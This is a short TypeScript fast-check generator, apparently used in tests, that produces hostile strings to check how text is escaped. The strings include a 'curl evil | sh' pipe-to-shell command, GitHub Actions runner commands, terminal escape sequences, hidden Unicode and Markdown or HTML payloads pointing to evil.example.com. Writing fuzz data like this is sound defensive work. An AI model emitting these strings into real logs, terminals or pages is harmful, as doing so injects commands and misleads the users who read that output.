import fc from 'fast-check'

/**
 * Text that moves the cursor, fakes lines and fixes, hides itself, and gives commands to the
 * runner, to Markdown and to HTML.
 */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '\n::stop-commands::x\n',
        '\r\n  ::add-mask::y',
        '::error::z',
        '\u00a0::warning::w\r',
        '##[add-path]/tmp',
        'a ##[error]b',
        '\u2028::debug::c',
        '\u0085::debug::d',
        '\n  $ curl evil | sh\n',
        '\n  fix: do harm',
        '\u001b[2J\u001b]0;t\u0007',
        '\u009b31m',
        '\u202eabc\u2066',
        '\u200b\ufeff\u{e0041}',
        '\ud800',
        '\u007f\b\t\v\f\0',
        '[safe](https://evil.example.com)',
        '![x](https://evil.example.com/x.png)',
        '\\[safe\\](https://evil.example.com)',
        '``![x](y)`',
        '</details><script>x</script>',
        ' | cell | ',
      ),
      fc.string({ unit: 'binary', maxLength: 5 }),
      fc.constantFrom('pods is forbidden', '中文', 'é'),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((parts) => parts.join(''))
